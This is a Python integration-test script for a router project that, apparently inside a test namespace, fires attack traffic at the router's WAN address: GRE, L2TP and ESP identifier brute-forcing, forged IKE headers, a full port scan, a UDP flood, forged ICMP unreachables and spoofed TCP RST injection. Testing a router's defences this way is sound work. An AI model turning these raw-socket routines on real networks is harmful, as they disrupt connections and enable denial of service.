"""Attacks from a WAN host on the router's address, fast, from raw sockets (run inside the attacker's namespace).

    python -m tests.integration.wan_attacks WAN_IP ATTACK [ARG ...]

ATTACK is one of:
  gre                      enhanced GRE (RFC 2637 §4.1) with every Call ID, 0 to 65535
  l2tp                     L2TP data messages (RFC 2661 §3.1) to UDP 1701 with every Tunnel ID
  esp SPI...               raw ESP (RFC 4303) with these SPIs (hex) and 1,000 guessed ones
  natt SPI...              ESP in UDP 4500 (RFC 3948) with these SPIs, from the attacker's own port 4500
  ike SPI_I SPI_R          IKE_SA_INIT-shaped headers (RFC 7296 §3.1) with a live SA's SPIs, to UDP 500
  ports                    a TCP SYN and a UDP datagram to every port, 1 to 65535
  flood SECONDS [PPS]      UDP datagrams to random ports for SECONDS, PPS a second (default: as fast as it can)
  icmp REMOTE PROTO PORT REMOTE_PORT
                           forged port unreachables (RFC 792) quoting the router's datagram
                           WAN_IP:PORT -> REMOTE:REMOTE_PORT, 100 of them
  rst REMOTE REMOTE_PORT PORT
                           RSTs from REMOTE:REMOTE_PORT (spoofed) to WAN_IP:PORT with random sequence
                           numbers (RFC 5961 §3), 25 of them

Prints the number of packets sent.  Raw sockets need root (the namespace's).
"""

from __future__ import annotations

import random
import socket
import struct
import sys

from router.packet.checksum import internet_checksum

GRE, ESP = 47, 50
rng = random.Random(12)


def raw(proto: int) -> socket.socket:
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, proto)


def gre(wan: str) -> int:
    """Version 1 GRE with the key present: payload length 0 and the guessed Call ID."""
    s = raw(GRE)
    for call_id in range(65536):
        s.sendto(struct.pack("!HHHH", 0x2001, 0x880B, 0, call_id), (wan, 0))
    return 65536


def l2tp(wan: str) -> int:
    send = _udp_from(wan, 1701, 1701)
    for tunnel_id in range(65536):
        send(struct.pack("!HHH", 0x0002, tunnel_id, 1) + b"\xff\x03\xc0\x21")
    return 65536


def _spis(live: list[str]) -> list[int]:
    return [int(spi, 16) for spi in live] + [rng.getrandbits(32) | 256 for _ in range(1000)]


def esp(wan: str, *live: str) -> int:
    s = raw(ESP)
    spis = _spis(list(live))
    for seq, spi in enumerate(spis, 1):
        s.sendto(struct.pack("!II", spi, seq) + bytes(48), (wan, 0))
    return len(spis)


def natt(wan: str, *live: str) -> int:
    send = _udp_from(wan, 4500, 4500)
    spis = _spis(list(live))
    for seq, spi in enumerate(spis, 1):
        send(struct.pack("!II", spi, seq) + bytes(48))
    return len(spis)


def ike(wan: str, spi_i: str, spi_r: str) -> int:
    send = _udp_from(wan, 500, 500)
    sent = 0
    for exchange in (34, 35, 36, 37):           # IKE_SA_INIT, IKE_AUTH, CREATE_CHILD_SA, INFORMATIONAL
        for message_id in range(25):
            header = bytes.fromhex(spi_i) + bytes.fromhex(spi_r) + struct.pack("!BBBBII", 46, 0x20, exchange, 0x20,
                                                                                 message_id, 28 + 36)
            send(header + bytes(36))
            sent += 1
    return sent


def ports(wan: str) -> int:
    tcp = raw(socket.IPPROTO_TCP)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    me = _own_address(wan)
    for port in range(1, 65536):
        tcp.sendto(_tcp(me, wan, 40000 + port % 20000, port, rng.getrandbits(32), 0x02), (wan, 0))
        udp.sendto(b"hello", (wan, port))
    return 2 * 65535


def flood(wan: str, seconds: str, rate: str = "0") -> int:
    """Unsolicited UDP to random ports for ``seconds``, ``rate`` a second or flat out: what a WAN flood costs
    established flows (make bench)."""
    import time
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    ports = [rng.randrange(1024, 65536) for _ in range(4096)]
    burst = 100
    sent, start = 0, time.monotonic()
    end = start + float(seconds)
    while (now := time.monotonic()) < end:
        if int(rate) and sent > (now - start) * int(rate):
            time.sleep(burst / int(rate))
            continue
        for port in ports[sent % 4096:sent % 4096 + burst]:
            try:
                udp.sendto(b"flood", (wan, port))
            except OSError:           # the namespace's queue is full: the flood is as fast as it gets
                pass
        sent += burst
    return sent


def icmp(wan: str, remote: str, proto: str, port: str, remote_port: str) -> int:
    """Port unreachables that quote the router's own datagram to ``remote``, as an on-path router would."""
    s = raw(socket.IPPROTO_ICMP)
    number = {"tcp": 6, "udp": 17}[proto]
    quoted = _ip(wan, remote, number, 20 + 8) + struct.pack("!HHI", int(port), int(remote_port), rng.getrandbits(32))
    for _ in range(100):
        body = struct.pack("!BBHI", 3, 3, 0, 0) + quoted
        s.sendto(body[:2] + struct.pack("!H", internet_checksum(body)) + body[4:], (wan, 0))
    return 100


def rst(wan: str, remote: str, remote_port: str, port: str) -> int:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)     # IP_HDRINCL: a spoofed source
    for _ in range(25):
        segment = _tcp(remote, wan, int(remote_port), int(port), rng.getrandbits(32), 0x04)
        s.sendto(_ip(remote, wan, 6, 20 + len(segment)) + segment, (wan, 0))
    return 25


def _udp_from(wan: str, sport: int, dport: int):
    """A sender of UDP payloads from our own ``sport``, which the namespace's VPN servers may hold: built by hand."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    me = _own_address(wan)

    def send(payload: bytes) -> None:
        datagram = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload    # checksum 0: none (RFC 768)
        s.sendto(_ip(me, wan, 17, 20 + len(datagram)) + datagram, (wan, 0))
    return send


def _ip(src: str, dst: str, proto: int, total: int) -> bytes:
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, rng.getrandbits(16), 0, 64, proto, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
    return header[:10] + struct.pack("!H", internet_checksum(header)) + header[12:]


def _tcp(src: str, dst: str, sport: int, dport: int, seq: int, flags: int) -> bytes:
    segment = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, flags, 8192, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(segment))
    return segment[:16] + struct.pack("!H", internet_checksum(pseudo + segment)) + segment[18:]


def _own_address(towards: str) -> str:
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((towards, 9))
    return probe.getsockname()[0]


ATTACKS = {"gre": gre, "l2tp": l2tp, "esp": esp, "natt": natt, "ike": ike, "ports": ports, "flood": flood,
           "icmp": icmp, "rst": rst}

if __name__ == "__main__":
    if len(sys.argv) < 3 or sys.argv[2] not in ATTACKS:
        sys.exit(__doc__)
    print(ATTACKS[sys.argv[2]](sys.argv[1], *sys.argv[3:]))
